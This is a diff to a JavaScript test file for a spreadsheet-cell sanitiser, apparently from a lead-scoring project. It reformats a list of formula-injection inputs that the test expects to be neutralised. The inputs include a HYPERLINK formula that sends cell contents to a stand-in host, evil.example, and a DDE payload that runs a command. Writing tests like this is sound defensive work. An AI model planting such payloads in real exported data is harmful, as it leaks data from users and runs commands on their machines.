@@ -6,7 +6,14 @@ import { reconcileLead } from '../../src/leads/lifecycle.js';
 import { scoreFindings } from '../../src/leads/score.js';
 import { finding, SCORING } from '../leads/findings.js';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '＝HYPERLINK("x")'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '＝HYPERLINK("x")',
+];
 
 describe('spreadsheet cells', () => {
   it('neutralise every formula-looking value and leave everything else alone', () => {
